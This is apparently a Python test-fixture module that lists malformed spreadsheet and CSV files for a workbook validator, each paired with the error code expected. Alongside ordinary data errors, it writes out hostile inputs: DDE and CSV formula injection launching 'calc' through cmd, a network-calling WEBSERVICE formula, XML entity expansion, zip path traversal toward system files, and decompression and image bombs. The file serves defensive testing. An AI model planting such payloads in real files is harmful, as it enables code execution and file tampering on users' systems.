"""Bad workbooks: a name, the file, the code of what is wrong and its cell (blank: the file or sheet as a whole).

What takes long is made when its test asks for it: every process of tests reads this list.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial, wraps
from typing import Any, ParamSpec

from . import making
from .making import GOOD, HEAD, ods, ods_row, part, png

Given = ParamSpec("Given")
Make = Callable[[], bytes]


@dataclass(frozen=True)
class Case:
    """One bad workbook."""

    name: str
    made: bytes | Make
    code: str
    cell: str = ""
    file: str = "a.xlsx"

    @property
    def content(self) -> bytes:
        """The file."""
        return self.made if isinstance(self.made, bytes) else self.made()


def made_later(make: Callable[Given, bytes]) -> Callable[Given, Make]:
    """The same file, made when somebody asks for it."""

    @wraps(make)
    def postpone(*given: Given.args, **named: Given.kwargs) -> Make:
        return partial(make, *given, **named)

    return postpone


archive, book, capacities = made_later(making.archive), made_later(making.book), made_later(making.capacities)
formula, repacked = made_later(making.formula), made_later(making.repacked)


def changed(**cells: object) -> Make:
    """The good row with some cells changed; columns by letter."""
    return capacities([cells.get("ABCDEF"[at], cell) for at, cell in enumerate(GOOD)])


def with_column(heading: str, value: object, style: str = "") -> Make:
    """The good row with one more column, G."""

    def edit(page: Any) -> None:
        if style:
            page["G2"].number_format = style

    return capacities([*GOOD, value], head=[*HEAD, heading], edit=edit)


def merged(cells: str, *rows: list[object]) -> Make:
    """Rows with some cells merged."""
    return capacities(*rows, edit=lambda page: page.merge_cells(cells))


GOOD_BOOK = making.capacities(GOOD)
SHEET = "xl/worksheets/sheet1.xml"
SECOND = ["n2", *GOOD[1:]]
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
PLANTS = ["编号", "名称", "企业", "依据类型"]
LOADS = ["装置", "时间", "开工率", "依据类型"]
CSV = "编号,装置,产品,年产能,单位,依据类型\n"


def without_declaration(data: bytes) -> bytes:
    """A part without its XML declaration."""
    return data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data


def encrypted_zip() -> bytes:
    """An archive whose parts say that they need a password."""
    data = bytearray(GOOD_BOOK)
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


CELLS = [
    Case("words for a number", changed(D="约三十"), "text_number", "D2"),
    Case("a letter among digits", changed(D="３O"), "text_number", "D2"),
    Case("a comma that is no thousands", changed(D="4,5"), "text_number", "D2"),
    Case("two prefixes", changed(D="45万"), "text_number", "D2"),
    Case("a range", changed(D="30—40"), "text_number", "D2"),
    Case("a negative capacity", changed(D=-5), "negative_number", "D2"),
    Case("no unit", changed(E=None), "missing_unit", "D2"),
    Case("an unknown unit", changed(E="麻袋"), "unknown_unit", "E2"),
    Case("a unit of another kind", changed(C="cell"), "wrong_dimension", "E2"),
    Case("a share above 100", with_column("自用比例", 150), "share_out_of_range", "G2"),
    Case("a percent cell above 100 %", with_column("自用比例", 1.5, "0%"), "share_out_of_range", "G2"),
    Case("tonnes for a share", with_column("自用比例（吨）", 5), "text_number", "G2"),
    Case("no choice", changed(F="听说"), "not_a_choice", "F2"),
    Case("a tick for a choice", changed(F=True), "not_a_choice", "F2"),
    Case("a required cell blank", changed(F=None), "required", "F2"),
    Case("a thirteenth month", with_column("时间", "2023年13月"), "impossible_period", "G2"),
    Case("last year", with_column("时间", "去年"), "impossible_period", "G2"),
    Case("a day that is none", with_column("时间", "2023-02-30"), "impossible_period", "G2"),
    Case("a plant nobody has", changed(B="nowhere"), "dangling", "B2"),
    Case("a choice of a list that has gone", changed(B="甲装置〔gone〕"), "dangling", "B2"),
    Case("a product nobody knows", changed(C="pat"), "unknown_product", "C2"),
    Case("part of nothing", with_column("属于", "n9"), "dangling", "G2"),
    Case(
        "a part above its total",
        capacities([*GOOD, None], ["n2", *GOOD[1:3], 40, *GOOD[4:], "n1"], head=[*HEAD, "属于"]),
        "part_exceeds_total",
        "D2",
    ),
    Case("neither plant nor group", changed(B=None), "capacity_of_none", "B2"),
    Case("the same id twice", capacities(GOOD, GOOD), "duplicate_key", "A3"),
    Case("the same id in two sheets", book({"产能": [HEAD, GOOD], "产能2": [HEAD, GOOD]}), "duplicate_key", "A2"),
    Case(
        "the same name twice, no id",
        book(
            [PLANTS[1:], ["丙", "cellmaker", "ours"], ["甲装置", "cellmaker", "ours"], ["甲装置", "cellmaker", "ours"]],
            title="装置",
        ),
        "duplicate_key",
        "4:4",
    ),
    Case(
        "a name of two plants",
        book(
            {
                "产能": [HEAD, ["n1", "乙装置", *GOOD[2:]]],
                "装置": [PLANTS, ["b1", "乙装置", "cellmaker", "ours"], ["b2", "乙装置", "cellmaker", "ours"]],
            }
        ),
        "ambiguous_name",
        "B2",
    ),
    Case(
        "no id and no name",
        book([["编号", "年产能", "单位", "依据类型"], [None, 1, "吨", "ours"]], title="产能"),
        "no_id",
        "A2",
    ),
    Case("stated without a source", changed(F="原文所载"), "source_required", "2:2"),
    Case("a long quote", with_column("原文", "长" * 31), "long_quote", "G2"),
    Case(
        "a name of two firms",
        book([["编号", "名称", "类型", "依据类型"], ["f2", "甲电池", "firm", "ours"]], title="企业"),
        "two_owners",
        "B2",
    ),
    Case(
        "a load above 100 %", book([LOADS, ["works", "2023", 120, "ours"]], title="开工率"), "share_out_of_range", "C2"
    ),
    Case("a load at no time", book([LOADS, ["works", None, 80, "ours"]], title="开工率"), "required", "B2"),
    Case("a broken reference", changed(D="#REF!"), "cell_error", "D2"),
    Case("a formula that failed", formula("=1/0", "#DIV/0!"), "cell_error", "D2"),
    Case("a formula never reckoned", changed(D="=1+1"), "formula_without_value", "D2"),
    Case(
        "a formula that asks the network", formula('=WEBSERVICE("https://a.example/"&A2)', 1), "forbidden_formula", "D2"
    ),
    Case("a formula that starts a program", formula("=cmd|'/c calc'!A1", 1), "forbidden_formula", "D2"),
    Case("a cell over two columns", merged("B2:C2", ["n1", "works", None, 1, "吨", "ours"]), "merged_across", "B2"),
    Case("one number for two rows", merged("D2:D3", GOOD, SECOND), "merged_number", "D2"),
]
SHEETS = [
    Case("an unknown column", with_column("颜色", "红"), "unknown_column", "G1"),
    Case("a column twice", with_column("装置", "works"), "duplicate_column", "G1"),
    Case("a column without heading", capacities([*GOOD, "?"]), "no_heading", "G1"),
    Case("a required column left out", capacities(GOOD[:5], head=HEAD[:5]), "missing_column"),
    Case("a sheet that is no table", book([["姓名", "职务"], ["张三", "主任"]], title="通讯录"), "unknown_sheet"),
    Case("a sheet that could be many tables", book([["编号", "名称"], ["a", "甲"]], title="汇总"), "unknown_sheet"),
    Case("an empty workbook", book({"Sheet1": []}), "empty_file"),
    Case("too many columns", book([[*HEAD, *(f"列{n}" for n in range(500))]]), "too_wide"),
]
FILES = [
    Case("an empty file", b"", "empty_file"),
    Case("a text called .xlsx", CSV.encode(), "not_what_it_says"),
    Case("a PDF called .xlsx", b"%PDF-1.7\n", "not_what_it_says"),
    Case("a page called .csv", b"<html><table><tr><td>1</td></tr></table>", "not_what_it_says", file="a.csv"),
    Case("a workbook called .csv", GOOD_BOOK, "not_what_it_says", file="a.csv"),
    Case("a program called .csv", b"MZ\x90\0" + b"\0" * 50, "not_what_it_says", file="a.csv"),
    Case("a Word file called .xlsx", archive(("word/document.xml", b"<a/>")), "not_what_it_says"),
    Case("an archive called .xlsx", archive(("a.txt", b"a")), "not_what_it_says"),
    Case("an old .xls", OLE, "old_workbook", file="a.xls"),
    Case("a binary .xlsb", archive(("xl/workbook.bin", b"a")), "old_workbook", file="a.xlsb"),
    Case(
        "an encoding nobody knows",
        repacked(GOOD_BOOK, {SHEET: b'<?xml version="1.0" encoding="U9TF-8"?><worksheet/>'}),
        "not_a_workbook",
    ),
    Case(
        "a row beyond the last",
        repacked(GOOD_BOOK, {SHEET: part(GOOD_BOOK, SHEET).replace(b'<row r="2"', b'<row r="99999999999999999999"')}),
        "not_a_workbook",
    ),
    Case(
        "a cell of no column",
        repacked(GOOD_BOOK, {SHEET: part(GOOD_BOOK, SHEET).replace(b'r="A2"', b'r="2"')}),
        "not_a_workbook",
    ),
    Case(
        "a merge for every row twice over",
        repacked(
            GOOD_BOOK,
            {
                SHEET: part(GOOD_BOOK, SHEET).replace(
                    b"</sheetData>", b"</sheetData>" + b'<mergeCell ref="A1:B2"/>' * 50_001
                )
            },
        ),
        "too_many_merges",
    ),
    Case("a password", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted_workbook"),
    Case("a password on the archive", encrypted_zip(), "encrypted_workbook"),
    Case("half a file", GOOD_BOOK[: len(GOOD_BOOK) // 2], "not_a_workbook"),
    Case("a sheet cut short", repacked(GOOD_BOOK, {SHEET: part(GOOD_BOOK, SHEET)[:-60]}), "not_a_workbook"),
    Case("no list of sheets", repacked(GOOD_BOOK, {"xl/_rels/workbook.xml.rels": None}), "not_a_workbook"),
    Case(
        "a text that is not there", repacked(making.formula("=1", 1), {"xl/sharedStrings.xml": None}), "not_a_workbook"
    ),
    Case("a file too large", lambda: b"\0" * 50_000_001, "too_large"),
    Case(
        "a part that grows a thousandfold",
        lambda: making.repacked(GOOD_BOOK, {SHEET: b"<a>" + b" " * 30_000_000}),
        "unpacks_too_large",
    ),
    Case(
        "thousands of parts",
        lambda: making.archive(("xl/workbook.xml", b"<a/>"), *((f"p{n}", b"") for n in range(5_001))),
        "unpacks_too_large",
    ),
    Case(
        "entities in a sheet",
        repacked(GOOD_BOOK, {SHEET: ENTITY + without_declaration(part(GOOD_BOOK, SHEET))}),
        "xml_entities",
    ),
    Case(
        "entities in a part nobody reads",
        repacked(GOOD_BOOK, {"docProps/app.xml": ENTITY + b"<a>&b;</a>"}),
        "xml_entities",
    ),
    Case(
        "entities in UTF-16",
        repacked(
            GOOD_BOOK,
            {"docProps/app.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a []><a/>'.encode("utf-16")},
        ),
        "xml_entities",
    ),
    Case("a path upward", repacked(GOOD_BOOK, {}, [("../../etc/cron.d/a", b"a")]), "unsafe_archive"),
    Case("a path from the root", repacked(GOOD_BOOK, {}, [("/etc/passwd", b"a")]), "unsafe_archive"),
    Case("a path on a drive", repacked(GOOD_BOOK, {}, [("C:/Windows/a.dll", b"a")]), "unsafe_archive"),
    Case("a part twice", repacked(GOOD_BOOK, {}, [("xl/styles.xml", b"<a/>")]), "unsafe_archive"),
    Case(
        "a picture of a million columns",
        repacked(GOOD_BOOK, {}, [("xl/media/a.png", png(1_000_000, 1_000_000))]),
        "huge_picture",
    ),
    Case(
        "a picture that unpacks to 90 million dots",
        repacked(GOOD_BOOK, {}, [("xl/media/a.png", png(9_000, 10_000))]),
        "huge_picture",
    ),
    Case(
        "a row repeated a million times",
        ods(ods_row(*HEAD) + ods_row("a", repeated=100_000_000)),
        "too_many_rows",
        file="a.ods",
    ),
    Case(
        "an .ods without a sheet", archive(("mimetype", b"a"), ("content.xml", b"<a")), "not_a_workbook", file="a.ods"
    ),
    Case("neither UTF-8 nor GB18030", CSV.encode() + b"\xff\xff\xff,", "undecodable", file="a.csv"),
    Case("an open quote", (CSV + 'a,"b\nc').encode(), "unreadable_rows", file="a.csv"),
    Case(
        "a formula in a CSV",
        (CSV + '"=HYPERLINK(""https://a.example"")",works,pta,1,吨,ours\n').encode(),
        "formula_text",
        "A2",
        "a.csv",
    ),
    Case(
        "a program in a CSV",
        (CSV + "@SUM(1+1)*cmd|'/c calc'!A0,works,pta,1,吨,ours\n").encode(),
        "formula_text",
        "A2",
        "a.csv",
    ),
    Case("one cell more than the heading", (CSV + "n1,works,pta,1,吨,ours,?\n").encode(), "no_heading", "G1", "a.csv"),
]
CASES = [*CELLS, *SHEETS, *FILES]
